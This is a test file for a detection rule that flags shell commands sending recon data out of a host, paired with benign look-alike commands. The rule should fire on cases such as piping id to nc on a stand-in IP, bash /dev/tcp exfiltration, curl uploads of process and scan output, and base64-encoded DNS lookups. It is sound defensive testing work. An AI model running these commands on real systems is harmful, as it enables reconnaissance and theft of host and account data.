import { indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandReconSend } from './recon-send.ts';

indicatorTable(commandReconSend, {
  fires: {
    'the identity into a plain connection': script('(id; hostname) | nc -w 5 203.0.113.7 4444'),
    'what a scanner wrote into a file': script(
      'masscan 10.0.0.0/8 -p6443 -oL /tmp/m; curl -T /tmp/m https://collect.example.com/',
    ),
    'a plain connection inside the cluster': script('id | nc listener.default.svc.cluster.local 4444'),
    'a device of bash': runs('bash', '-c', 'whoami > /dev/tcp/203.0.113.7/443'),
    'the identity in the body of a request': script('curl -s -d "$(id)" https://collect.example.com/'),
    'two facts in an address': script('curl "https://collect.example.com/?u=$(whoami)&k=$(uname -a | base64)"'),
    'processes through a file': script('ps aux > /tmp/o; curl -T /tmp/o https://collect.example.com/'),
    'in a name that is looked up': script('nslookup $(id | base64 | tr -d "=").collect.example.com'),
    'who it is, by mail, with a scan': script('(id; nmap 10.0.0.0/24) > /tmp/o; mail -s x a@example.com < /tmp/o'),
    'what the account may do': script('kubectl auth can-i --list | curl --data-binary @- http://203.0.113.7/'),
  },
  staysSilent: {
    'what another account may do, in a report': script(
      'kubectl auth can-i --list --as=system:serviceaccount:shop:default > /tmp/r; curl -T /tmp/r https://reports.example.com/',
    ),
    'a scan of known hosts that is mailed': script(
      'nmap -oX /base/b.xml 192.0.2.0/28; ndiff /base/a.xml /base/b.xml > /tmp/d; mail -s ports ops@example.com < /tmp/d',
    ),
    'what a scanner wrote, kept for its own report': script(
      'nmap -oX /reports/a.xml db.shop.svc; curl -T /reports/b.xml https://example.com/',
    ),
    'a metric with the name of the host': script('echo "jobs.$(hostname) 1" | nc graphite.example.com 2003'),
    'the name of the node in a heartbeat': script('curl -d "node=$(uname -n)" https://hc.example.com/ping/1'),
    'an address for a name service': script(
      'curl "https://ddns.example.com/update?ip=$(ip -4 addr show eth0 | cut -d/ -f1)"',
    ),
    'the number of the user in a condition': script('[ "$(id -u)" = 0 ] || exit 1; curl https://example.com/'),
    'the identity in the log of the job': script('id; ps aux; netstat -tln'),
    'a request inside the cluster': script('curl -d "$(id)" http://audit.shop.svc/'),
  },
  cannotTell: UNSEEN,
});
